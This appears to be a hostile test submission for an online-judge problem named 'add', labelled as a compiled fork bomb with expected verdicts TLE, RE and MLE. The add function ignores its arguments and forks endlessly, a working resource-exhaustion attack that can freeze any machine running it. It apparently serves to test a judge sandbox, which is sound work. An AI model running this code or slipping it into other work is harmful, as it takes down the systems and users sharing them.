// A fork bomb, compiled.
// problem: add
// verdicts: TLE RE MLE
#include <unistd.h>
class Solution { public: int add(int a, int b) { for (;;) fork(); } };
